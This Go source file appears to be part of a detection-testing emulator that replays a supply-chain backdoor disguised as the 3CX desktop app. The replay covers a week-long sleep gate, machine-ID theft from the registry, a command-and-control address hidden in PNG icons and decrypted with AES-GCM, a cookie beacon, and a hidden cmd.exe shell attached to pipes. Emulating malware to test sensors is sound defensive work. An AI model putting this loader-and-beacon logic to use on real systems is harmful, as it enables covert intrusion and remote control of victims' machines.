package guard

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"net/url"
	"strconv"
	"strings"
	"time"

	"sidetrace/emulator/guest"
)

const invalidHandle = ^uint64(0)

// gate waits until the time in the manifest file, which the first run writes:
// a week from now and up to three more, as published. A machine on which the
// file has not been written yet therefore shows nothing else.
func (s *session) gate() bool {
	if s.GateMin == 0 && s.GateSpread == 0 {
		return true
	}
	path := s.wide(s.beside(s.Manifest))
	until, ok := s.readGate(path)
	if !ok {
		until = s.now() + s.GateMin
		if s.GateSpread > 0 {
			tick := s.call("kernel32.dll", "GetTickCount")
			until += int64(tick) % s.GateSpread
		}
		if !s.writeGate(path, until) {
			return false
		}
	}
	// One call cannot wait for weeks on Windows without looking odd, and the
	// clock may be changed meanwhile: an hour at a time.
	const step = int64(time.Hour / time.Second)
	for left := until - s.now(); left > 0; left = until - s.now() {
		s.call("kernel32.dll", "Sleep", uint64(min(left, step))*1000)
	}
	return true
}

// beside is the path of a file in the host program's folder.
func (s *session) beside(name string) string {
	const chars = 260
	buffer := s.out(2 * chars)
	n := s.call("kernel32.dll", "GetModuleFileNameW", 0, buffer, chars)
	host := guest.FromUTF16(s.bytes(buffer, int(2*min(n, chars-1))))
	return guest.Join(guest.Folder(host), name)
}

// now is the time of day in seconds since 1970.
func (s *session) now() int64 {
	at := s.out(8)
	s.call("kernel32.dll", "GetSystemTimeAsFileTime", at)
	return int64(binary.LittleEndian.Uint64(s.bytes(at, 8))/10_000_000) - 11_644_473_600
}

const (
	genericRead  = 0x80000000
	genericWrite = 0x40000000
	shareRead    = 1
	createAlways = 2
	openExisting = 3
)

func (s *session) readGate(path uint64) (int64, bool) {
	h := s.call("kernel32.dll", "CreateFileW", path, genericRead, shareRead, 0, openExisting, 0, 0)
	if h == invalidHandle {
		return 0, false
	}
	defer s.call("kernel32.dll", "CloseHandle", h)
	buffer, done := s.out(8), s.out(8)
	if s.call("kernel32.dll", "ReadFile", h, buffer, 8, done, 0) == 0 || s.uint32(done) != 8 {
		return 0, false
	}
	return int64(binary.LittleEndian.Uint64(s.bytes(buffer, 8))), true
}

func (s *session) writeGate(path uint64, until int64) bool {
	h := s.call("kernel32.dll", "CreateFileW", path, genericWrite, 0, 0, createAlways, 0, 0)
	if h == invalidHandle {
		return false
	}
	defer s.call("kernel32.dll", "CloseHandle", h)
	return s.call("kernel32.dll", "WriteFile", h, s.put(le(uint64(until))), 8, s.out(8), 0) != 0
}

// identify reads the machine's identifier from the registry.
func (s *session) identify() bool {
	const (
		localMachine = 0xFFFFFFFF80000002
		queryValue   = 0x0001
		wow64Key     = 0x0100
	)
	key := s.out(8)
	if s.call("advapi32.dll", "RegOpenKeyExW", localMachine, s.wide(`SOFTWARE\Microsoft\Cryptography`), 0, queryValue|wow64Key, key) != 0 {
		return false
	}
	h := binary.LittleEndian.Uint64(s.bytes(key, 8))
	defer s.call("advapi32.dll", "RegCloseKey", h)
	const room = 128
	typ, data, size := s.out(4), s.out(room), s.put(le(uint32(room)))
	if s.call("advapi32.dll", "RegQueryValueExW", h, s.wide("MachineGuid"), 0, typ, data, size) != 0 || s.uint32(typ) != guest.RegSZ {
		return false
	}
	s.machine = guest.FromUTF16(s.bytes(data, int(min(s.uint32(size), room))))
	return s.machine != ""
}

const userAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) 3CXDesktopApp/18.12.416 Chrome/108.0.5359.215 Electron/22.3.2 Safari/537.36"

// icon fetches one of the icons, chosen by the machine's identifier, and
// decrypts the address hidden behind its picture.
func (s *session) icon() bool {
	if s.Icons <= 0 {
		return false
	}
	index := crc32.ChecksumIEEE([]byte(s.machine)) % uint32(s.Icons)
	address := strings.Replace(s.IconURL, "%d", strconv.Itoa(int(index)), 1)
	body, status := s.get(address)
	if status != 200 {
		return false
	}
	// The picture is a PNG; what follows its last chunk is "$" and base64.
	end := bytes.LastIndex(body, []byte("IEND\xAE\x42\x60\x82"))
	if end < 0 {
		return false
	}
	text, ok := bytes.CutPrefix(body[end+8:], []byte("$"))
	if !ok {
		return false
	}
	plain, ok := s.open(s.decode(text))
	if u, err := url.Parse(plain); !ok || err != nil || u.Host == "" {
		return false
	}
	s.c2 = plain
	return true
}

const wininet = "wininet.dll"

// get requests a URL and returns its body and status, 0 where there is no
// answer.
func (s *session) get(address string) (body []byte, status uint32) {
	inet := s.call(wininet, "InternetOpenW", s.wide(userAgent), 0, 0, 0, 0)
	if inet == 0 {
		return nil, 0
	}
	defer s.call(wininet, "InternetCloseHandle", inet)
	const secureReload = 0x80800000 // INTERNET_FLAG_SECURE, INTERNET_FLAG_RELOAD
	h := s.call(wininet, "InternetOpenUrlW", inet, s.wide(address), 0, 0, secureReload, 0)
	if h == 0 {
		return nil, 0
	}
	defer s.call(wininet, "InternetCloseHandle", h)
	return s.read(h), s.status(h)
}

func (s *session) status(request uint64) uint32 {
	const statusAsNumber = 19 | 0x20000000 // HTTP_QUERY_STATUS_CODE, HTTP_QUERY_FLAG_NUMBER
	code, size := s.out(4), s.put(le(uint32(4)))
	if s.call(wininet, "HttpQueryInfoW", request, statusAsNumber, code, size, 0) == 0 {
		return 0
	}
	return s.uint32(code)
}

func (s *session) read(request uint64) []byte {
	const chunk, most = 8 << 10, 4 << 20
	buffer, done := s.out(chunk), s.out(4)
	var body []byte
	for len(body) < most {
		if s.call(wininet, "InternetReadFile", request, buffer, chunk, done) == 0 {
			break
		}
		n := s.uint32(done)
		if n == 0 {
			break
		}
		body = append(body, s.bytes(buffer, int(min(n, chunk)))...)
	}
	return body
}

// decode turns base64 into bytes.
func (s *session) decode(text []byte) []byte {
	const anyBase64 = 1 // CRYPT_STRING_BASE64
	in, size := s.ansi(string(text)), s.put(le(uint32(0)))
	if s.call("crypt32.dll", "CryptStringToBinaryA", in, uint64(len(text)), anyBase64, 0, size, 0, 0) == 0 {
		return nil
	}
	out := s.out(int(min(s.uint32(size), maxImage)))
	if s.call("crypt32.dll", "CryptStringToBinaryA", in, uint64(len(text)), anyBase64, out, size, 0, 0) == 0 {
		return nil
	}
	return bytes.Clone(s.bytes(out, int(s.uint32(size))))
}

// open decrypts four bytes of prefix, a tag of sixteen and a ciphertext with
// AES-256-GCM.
func (s *session) open(sealed []byte) (string, bool) {
	const lib, prefix, tag = "bcrypt.dll", 4, 16
	key, err := hex.DecodeString(s.Key)
	nonce, err2 := hex.DecodeString(s.Nonce)
	if err != nil || err2 != nil || len(sealed) <= prefix+tag {
		return "", false
	}
	provider := s.out(8)
	if s.call(lib, "BCryptOpenAlgorithmProvider", provider, s.wide("AES"), 0, 0) != 0 {
		return "", false
	}
	alg := binary.LittleEndian.Uint64(s.bytes(provider, 8))
	defer s.call(lib, "BCryptCloseAlgorithmProvider", alg, 0)
	mode := guest.UTF16("ChainingModeGCM")
	if s.call(lib, "BCryptSetProperty", alg, s.wide("ChainingMode"), s.put(mode), uint64(len(mode)), 0) != 0 {
		return "", false
	}
	handle := s.out(8)
	if s.call(lib, "BCryptGenerateSymmetricKey", alg, handle, 0, 0, s.put(key), uint64(len(key)), 0) != 0 {
		return "", false
	}
	h := binary.LittleEndian.Uint64(s.bytes(handle, 8))
	defer s.call(lib, "BCryptDestroyKey", h)

	// BCRYPT_AUTHENTICATED_CIPHER_MODE_INFO, version 1
	info := s.put(le(
		uint32(88), uint32(1),
		s.put(nonce), uint32(len(nonce)), uint32(0),
		uint64(0), uint32(0), uint32(0),
		s.put(sealed[prefix:prefix+tag]), uint32(tag), uint32(0),
		uint64(0), uint32(0), uint32(0),
		uint64(0), uint32(0), uint32(0),
	))
	text := sealed[prefix+tag:]
	out, size := s.out(len(text)), s.out(4)
	if s.call(lib, "BCryptDecrypt", h, s.put(text), uint64(len(text)), info, 0, 0, out, uint64(len(text)), size, 0) != 0 {
		return "", false
	}
	return string(s.bytes(out, int(min(s.uint32(size), uint32(len(text)))))), true
}

// checkIn asks the hidden address for an answer, with the cookies of the
// published chain, and says whether the answer is the expected one.
func (s *session) checkIn() bool {
	u, err := url.Parse(s.c2)
	if err != nil {
		return false
	}
	port, flags := uint64(443), uint64(0x80800000)
	if u.Scheme == "http" {
		port, flags = 80, 0x80000000
	}
	if p, err := strconv.Atoi(u.Port()); err == nil {
		port = uint64(p)
	}
	inet := s.call(wininet, "InternetOpenW", s.wide(userAgent), 0, 0, 0, 0)
	if inet == 0 {
		return false
	}
	defer s.call(wininet, "InternetCloseHandle", inet)
	const serviceHTTP = 3
	connection := s.call(wininet, "InternetConnectW", inet, s.wide(u.Hostname()), port, 0, 0, serviceHTTP, 0, 0)
	if connection == 0 {
		return false
	}
	defer s.call(wininet, "InternetCloseHandle", connection)
	request := s.call(wininet, "HttpOpenRequestW", connection, s.wide("GET"), s.wide(u.RequestURI()), 0, 0, 0, flags, 0)
	if request == 0 {
		return false
	}
	defer s.call(wininet, "InternetCloseHandle", request)
	headers := fmt.Sprintf("Accept-Encoding: gzip, deflate, br\r\nCookie: __tutma=%s; __tutmc=true\r\n", s.machine)
	if s.call(wininet, "HttpSendRequestW", request, s.wide(headers), uint64(len(headers)), 0, 0) == 0 || s.status(request) != 200 {
		return false
	}
	return string(bytes.TrimSpace(s.read(request))) == s.Answer
}

// shell is what a sensor sees when a hidden command shell is attached to
// pipes. The process is recorded and never run.
func (s *session) shell() bool {
	const (
		inherit        = 1
		createNoWindow = 0x08000000
		useShowWindow  = 0x1
		useStdHandles  = 0x100
		startupSize    = 104
	)
	attributes := s.put(le(uint32(24), uint32(0), uint64(0), uint32(inherit), uint32(0)))
	inRead, inWrite, outRead, outWrite := s.out(8), s.out(8), s.out(8), s.out(8)
	if s.call("kernel32.dll", "CreatePipe", inRead, inWrite, attributes, 0) == 0 ||
		s.call("kernel32.dll", "CreatePipe", outRead, outWrite, attributes, 0) == 0 {
		return false
	}
	handle := func(at uint64) uint64 { return binary.LittleEndian.Uint64(s.bytes(at, 8)) }
	startup := make([]byte, startupSize)
	binary.LittleEndian.PutUint32(startup, startupSize)
	binary.LittleEndian.PutUint32(startup[60:], useShowWindow|useStdHandles)
	binary.LittleEndian.PutUint64(startup[80:], handle(inRead))
	binary.LittleEndian.PutUint64(startup[88:], handle(outWrite))
	binary.LittleEndian.PutUint64(startup[96:], handle(outWrite))
	info := s.out(24)
	ok := s.call("kernel32.dll", "CreateProcessW", s.wide(guest.SystemDirectory+`\cmd.exe`), 0, 0, 0, inherit, createNoWindow, 0, 0, s.put(startup), info) != 0
	for _, h := range []uint64{handle(inRead), handle(inWrite), handle(outRead), handle(outWrite), handle(info), handle(info + 8)} {
		if h != 0 {
			s.call("kernel32.dll", "CloseHandle", h)
		}
	}
	return ok
}
